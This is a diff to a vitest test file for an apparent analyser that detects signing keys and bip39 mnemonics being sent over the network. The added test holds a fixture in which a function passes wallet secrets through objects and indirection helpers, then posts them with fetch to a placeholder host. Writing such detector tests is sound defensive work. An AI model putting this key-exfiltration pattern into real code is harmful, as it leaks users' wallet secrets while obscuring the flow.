@@ -1,4 +1,5 @@
 import { expect, it } from 'vitest';
+import { analyseSources } from './testing/analyseSources.ts';
 import { keySentInJavaScript, keySentInPython } from './testing/keySent.ts';
 
 // An object that holds a key in so many places that they are not all told apart.
@@ -24,4 +25,20 @@ it('the object as a whole holds the key, however many places there are', async (
 it('the first places are no guess', async () => {
   const body = `const o = { host: 'x' }; ${MEMBERS.map((name) => `o.${name} = k;`).join(' ')} send(o.a);`;
   expect(await keySentInJavaScript('', body)).toEqual(['high']);
+});
+
+it('what holds a key only somewhere, and is sent as it is, is a guess', async () => {
+  const text = `
+const late = (x) => [x].map((y) => y)[0];
+exports.main = (k, j) => {
+  require('tweetnacl').sign.detached('', j); require('bip39').mnemonicToSeed(k);
+  const o = {}; o.a = j; o.b = j; o.c = j; o.d = j;
+  o.z = late(late(late(k)));
+  fetch('https://example.invalid', { body: o });
+};`;
+  const { flows } = await analyseSources({ 'a.js': text });
+  expect(flows.map(({ confidence, points }) => [points[0]?.what, confidence])).toEqual([
+    ['is the key (j) that npm:tweetnacl.sign.detached takes', 'high'],
+    ['is the key (k) that npm:bip39.mnemonicToSeed takes', 'medium'],
+  ]);
 });
